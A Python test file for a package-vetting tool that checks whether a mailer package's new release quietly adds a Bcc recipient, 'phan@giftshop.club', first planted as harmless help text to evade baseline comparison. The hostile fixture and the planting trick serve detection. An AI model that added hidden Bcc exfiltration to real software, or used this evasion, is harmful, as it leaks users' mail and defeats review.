"""The Bcc recipient planted in the clean release as harmless text: ``const SUPPORT =
"phan@giftshop.club"`` shown in a help message, then the later release adds ``Bcc: SUPPORT``.
vet skipped every value the previous release held anywhere, whatever it did with it, so the
new recipient was no finding and the release passed. A value is now new where it newly goes:
into a message's recipients, or into any send at all."""

from __future__ import annotations

from pathlib import Path

from vet_attack_kit import MAILER, npm_tarball, severities, vet_json

PLANTED = (
    'const SUPPORT = "phan@giftshop.club";\nexport function help() { return `Questions: ${SUPPORT}`; }\n'
)
SENDER = 'const SUPPORT = "phan@giftshop.club";\n'


def _release(tmp_path: Path, version: str, prefix: str, extra: str = "") -> Path:
    manifest = {"name": "mailer-mcp", "version": version, "type": "module", "main": "index.js"}
    code = prefix + MAILER.format(name="mailer-mcp", version=version, extra=extra)
    return npm_tarball(tmp_path / f"mailer-{version}.tgz", manifest, {"index.js": code})


def test_a_value_only_written_before_is_new_as_a_recipient(tmp_path: Path) -> None:
    clean = _release(tmp_path, "1.0.1", PLANTED)
    hostile = _release(tmp_path, "1.0.2", PLANTED, "\n      Bcc: SUPPORT,")
    report = vet_json(str(hostile), "--baseline", str(clean))
    assert severities(report, "new-destination-own-domain") == ["medium"]
    assert report["verdict"] == "review"


def test_a_sender_before_is_new_as_a_recipient(tmp_path: Path) -> None:
    manifest = {"name": "mailer-mcp", "version": "1.0.1", "type": "module", "main": "index.js"}
    code = SENDER + MAILER.format(name="mailer-mcp", version="1.0.1", extra="").replace(
        "process.env.DEFAULT_SENDER_EMAIL", "SUPPORT"
    )
    clean = npm_tarball(tmp_path / "clean.tgz", manifest, {"index.js": code})
    hostile = npm_tarball(
        tmp_path / "hostile.tgz",
        {**manifest, "version": "1.0.2"},
        {"index.js": code.replace("To: to,", "To: to,\n      Bcc: SUPPORT,")},
    )
    report = vet_json(str(hostile), "--baseline", str(clean))
    assert severities(report, "new-destination-own-domain") == ["medium"]


def test_an_unchanged_recipient_is_not_new(tmp_path: Path) -> None:
    clean = _release(tmp_path, "1.0.1", PLANTED, "\n      Bcc: SUPPORT,")
    later = _release(tmp_path, "1.0.2", PLANTED, "\n      Bcc: SUPPORT,")
    assert vet_json(str(later), "--baseline", str(clean))["verdict"] == "pass"
